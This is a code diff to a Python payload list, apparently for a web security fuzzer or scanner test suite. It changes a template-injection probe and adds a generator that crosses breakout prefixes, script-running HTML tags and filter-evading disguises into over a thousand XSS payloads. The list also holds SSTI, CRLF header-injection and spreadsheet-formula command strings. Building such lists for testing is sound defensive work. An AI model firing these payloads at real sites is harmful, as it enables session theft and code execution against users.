@@ -22,7 +22,7 @@ PAYLOADS = (
     f"<details open ontoggle={MARK}>",
     f"<input autofocus onfocus={MARK}>",
     f'<object data="javascript:{MARK}">',
-    "{{ 7 * 191 }} {% raw %} {# #} ${7*191} <%= 7*191 %> #{7*191}",
+    "{{ 7919 * 104729 }} {% raw %} {# #} ${7919*104729} <%= 7919*104729 %> #{7919*104729}",
     "{{ self.__init__.__globals__ }}",
     "`${alert`1`}` \\u003cscript\\u003e \\x3cscript\\x3e",
     "%3Cscript%3E%00%0d%0aSet-Cookie:%20x=1",
@@ -39,3 +39,30 @@ PAYLOADS = (
     "=cmd|' /C calc'!A0, +1, @SUM(1)",
     "<!-- --> <![CDATA[ ]]> <?php ?> ]]>",
 )
+
+# Ways out of where a text may stand, what runs, and ways to hide it: every way out with every runner and disguise.
+WAYS_OUT = (
+    "", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</svg>", '" ', "' ", "` ", "</bdi></p>",
+    "\\\">", "&quot;>", "%22%3E", "\u2028", "\n", "{{", "<!--",
+)  # fmt: skip
+RUNNERS = (
+    "<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", "<body onload={}>",
+    "<video><source onerror={}>",
+    "<a href=javascript:{}>x</a>",
+    "<iframe src=javascript:{}>", "<math href=javascript:{}>x",
+    "<embed src=javascript:{}>",
+    "<input onfocus={} autofocus>", "<details ontoggle={} open>", "<marquee onstart={}>", "<svg><animate onbegin={}>",
+    "<style onload={}></style>", "<form><button formaction=javascript:{}>x", "onmouseover={} x=",
+    "<svg><script href=data:,{} />", "<link rel=import href=data:text/html,{}>",
+)  # fmt: skip
+DISGUISES = (
+    lambda text: text,
+    lambda text: text.replace("<", "\u0000<", 1).replace("script", "ScRiPt"),
+    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
+)
+
+
+def thousand():
+    """1,000 of them and more, each different."""
+    built = (disguise(out + runner.format(MARK)) for disguise in DISGUISES for out in WAYS_OUT for runner in RUNNERS)
+    return tuple(dict.fromkeys((*PAYLOADS, *built)))
